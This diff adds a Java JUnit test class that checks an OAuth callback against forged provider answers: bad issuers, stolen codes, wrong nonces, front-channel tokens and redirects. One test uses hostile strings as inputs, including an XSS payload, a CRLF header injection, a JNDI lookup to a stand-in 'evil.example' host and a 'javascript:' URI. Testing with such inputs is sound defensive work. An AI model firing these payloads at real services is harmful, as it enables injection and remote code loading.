@@ -1,0 +1,203 @@
+package dev.concierge.server.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.concierge.sandbox.Fault;
+import dev.concierge.sandbox.Knobs;
+import dev.concierge.server.support.Browser;
+import dev.concierge.server.support.Page;
+import dev.concierge.server.support.Visitor;
+import java.net.URI;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Set;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+
+/** What comes back from a provider is believed as far as it is proven: issuer, code, errors, tokens in front. */
+@Tag("flow")
+class ForgedAnswerTest extends FlowCase {
+    private static final Map<String, String> HTML = Map.of("Accept", "text/html");
+
+    private Visitor alice;
+
+    @BeforeAll
+    void signUp() {
+        alice = person();
+    }
+
+    @AfterEach
+    void honestAgain() {
+        world().sandbox().knobs().resetAll();
+    }
+
+    @Test
+    @DisplayName("A-10 the issuer is missing, another, with a slash, in other case, and there twice")
+    void the_issuer_is_missing_another_with_a_slash_in_other_case_and_there_twice() {
+        URI callback = caught(alice);
+        String issuer = parameter(callback, "iss");
+        Browser browser = alice.browser();
+
+        refused(browser, with(callback, "iss"), "issuer");
+        refused(browser, with(callback, "iss", ""), "issuer");
+        refused(browser, with(callback, "iss", "https://evil.example"), "issuer");
+        refused(browser, with(callback, "iss", issuer + "/"), "issuer");
+        refused(browser, with(callback, "iss", issuer.toUpperCase(Locale.ROOT)), "issuer");
+        refused(browser, with(callback, "iss", " " + issuer), "issuer");
+        refused(browser, with(callback, "iss", issuer, issuer), "duplicate");
+        refused(browser, with(callback, "iss", issuer, "https://evil.example"), "duplicate");
+
+        connects(alice, callback);
+    }
+
+    @Test
+    @DisplayName("A-11 Eve puts a code of Bob's into her own callback")
+    void eve_puts_a_code_of_bobs_into_her_own_callback() {
+        Visitor bob = person();
+        Visitor eve = person();
+        URI bobs = bob.consent(bob.beginConnect(), Visitor.LINH_HOME, Set.of());
+        URI hers = caught(eve);
+        Traces before = traces();
+
+        Page answer = eve.browser().get(with(hers, "code", parameter(bobs, "code")), HTML);
+
+        assertThat(answer.status()).as(answer.text()).isEqualTo(502);
+        assertThat(answer.body()).doesNotContain(parameter(bobs, "code"));
+        assertThat(eve.open("/integrations").text()).doesNotContain(Visitor.LINH_HOME);
+        assertThat(rows("integrations")).isEqualTo(before.integrations());
+        assertThat(rows("grants")).isEqualTo(before.grants());
+        assertThat(refusals("invalid_grant")).isPositive();
+    }
+
+    @Test
+    @DisplayName("A-11, B-08 the provider ignores PKCE and the ID token carries another trip's nonce")
+    void an_id_token_with_another_trips_nonce_connects_nothing_and_its_tokens_are_ended() {
+        Traces before = traces();
+        world().sandbox().knobs().set(Knobs.WRONG_NONCE, true);
+
+        Page answer = alice.browser().get(caught(alice), HTML);
+
+        assertThat(answer.status()).isEqualTo(400);
+        assertThat(rows("integrations")).isEqualTo(before.integrations());
+        assertThat(rows("grants")).isEqualTo(before.grants());
+        assertThat(refusals("id_token_nonce")).isEqualTo(1);
+        world().sandbox().knobs().resetAll();
+        connects(alice, caught(alice));
+    }
+
+    @Test
+    @DisplayName("A-14 Mallory says no in Alice's name")
+    void mallory_says_no_in_alices_name() {
+        URI callback = caught(alice);
+        URI denied = query(callback, List.of(
+                new Browser.Field("error", "access_denied"),
+                new Browser.Field("state", parameter(callback, "state")),
+                new Browser.Field("iss", parameter(callback, "iss"))));
+
+        refused(world().visitor().browser(), denied, "state");
+
+        connects(alice, callback);
+    }
+
+    @Test
+    @DisplayName("A-14 an error answer carries markup, line breaks, a script address and a hundred kilobytes")
+    void an_error_answer_carries_markup_line_breaks_a_script_address_and_a_hundred_kilobytes() {
+        for (String poison : List.of(
+                "<img src=x onerror=alert(1)>", "a\r\nSet-Cookie: evil=1", "${jndi:ldap://evil.example/a}", "\u202Egnp.exe", "x".repeat(7000))) {
+            Page answer = alice.browser().get(error(poison, poison), HTML);
+
+            assertThat(answer.status()).isEqualTo(502);
+            assertThat(answer.body()).doesNotContain(poison).doesNotContain("onerror").doesNotContain("evil.example");
+            assertThat(answer.headers().map()).doesNotContainKey("evil");
+            assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.contains("evil"));
+        }
+        Page tooLong = alice.browser().get(error("server_error", "x".repeat(100_000)), HTML);
+        assertThat(tooLong.status()).isBetween(400, 431);
+        assertThat(tooLong.body()).doesNotContain("xxxxxxxxxx").doesNotContainIgnoringCase("tomcat");
+        assertThat(rowsWith("evil.example")).as("nothing foreign in the trail").isZero();
+        connects(alice, caught(alice));
+    }
+
+    @Test
+    @DisplayName("A-18 tokens come in the front channel, and the answer comes as a form")
+    void tokens_come_in_the_front_channel_and_the_answer_comes_as_a_form() {
+        URI callback = caught(alice);
+        Browser browser = alice.browser();
+
+        refused(browser, with(callback, "access_token", "ya29.forged"), "token_in_front_channel");
+        refused(browser, with(callback, "id_token", "e30.e30.e30"), "token_in_front_channel");
+        refused(browser, with(callback, "response", "e30.e30.e30"), "token_in_front_channel");
+        refused(browser, with(callback, "error", "access_denied"), "form");
+        refused(browser, with(callback, "code"), "form");
+        refused(browser, with(callback, "code", ""), "form");
+        refused(browser, with(callback, "code", "x".repeat(5000)), "form");
+
+        Traces before = traces();
+        Page posted = browser.send(
+                "POST",
+                world().url(CALLBACK),
+                callback.getRawQuery(),
+                Map.of("Content-Type", "application/x-www-form-urlencoded", "Origin", world().sandbox().baseUrl()));
+        assertThat(posted.status()).as("this provider answers by query").isBetween(400, 405);
+        assertThat(traces()).isEqualTo(before);
+
+        connects(alice, callback);
+    }
+
+    @Test
+    @DisplayName("A-20 the token endpoint sends the code elsewhere")
+    void the_token_endpoint_sends_the_code_elsewhere() {
+        for (int status : List.of(301, 302, 303, 307, 308)) {
+            Traces before = traces();
+            world().sandbox().knobs().set(Knobs.FAIL_NEXT, List.of(Fault.FailNext.of("token", status)));
+
+            Page answer = alice.browser().get(caught(alice), HTML);
+
+            assertThat(answer.status()).as("%s: %s", status, answer.text()).isBetween(500, 503);
+            assertThat(exchanges()).as("one call, none after it").isEqualTo(before.exchanges() + 1);
+            assertThat(rows("integrations")).isEqualTo(before.integrations());
+        }
+        connects(alice, caught(alice));
+    }
+
+    @Test
+    @DisplayName("A-20 our own redirects after a form are 303")
+    void our_own_redirects_after_a_form_are_303() {
+        Visitor bob = world().visitor();
+        Page form = bob.browser().open(world().url("/signup"));
+        Map<String, String> fields = Map.of("name", "Bob Example", "email", bob.email(), "password", bob.password());
+        assertThat(bob.browser().submitOnly(form, "form[action='/signup']", fields).status()).isEqualTo(303);
+
+        Page login = bob.browser().open(world().url("/login"));
+        Page in = bob.browser().submitOnly(login, "form[action='/login']", Map.of("email", bob.email(), "password", bob.password()));
+        assertThat(in.status()).isEqualTo(303);
+
+        String integration = "/integrations/" + bob.connected(Visitor.LINH_WORK);
+        Page question = bob.open(integration + "/disconnect");
+        Page gone = bob.browser().submitOnly(question, "form[action='" + integration + "/disconnect']", Map.of());
+        assertThat(gone.status()).isEqualTo(303);
+    }
+
+    private URI error(String code, String description) {
+        URI callback = caught(alice);
+        return query(callback, List.of(
+                new Browser.Field("error", code),
+                new Browser.Field("error_description", description),
+                new Browser.Field("error_uri", "javascript:alert(1)//evil.example"),
+                new Browser.Field("state", parameter(callback, "state")),
+                new Browser.Field("iss", parameter(callback, "iss"))));
+    }
+
+    private long rowsWith(String text) {
+        return world().database()
+                .owner()
+                .sql("select count(*) from audit_events e where e::text like :text")
+                .param("text", "%" + text + "%")
+                .query(Long.class)
+                .single();
+    }
+}
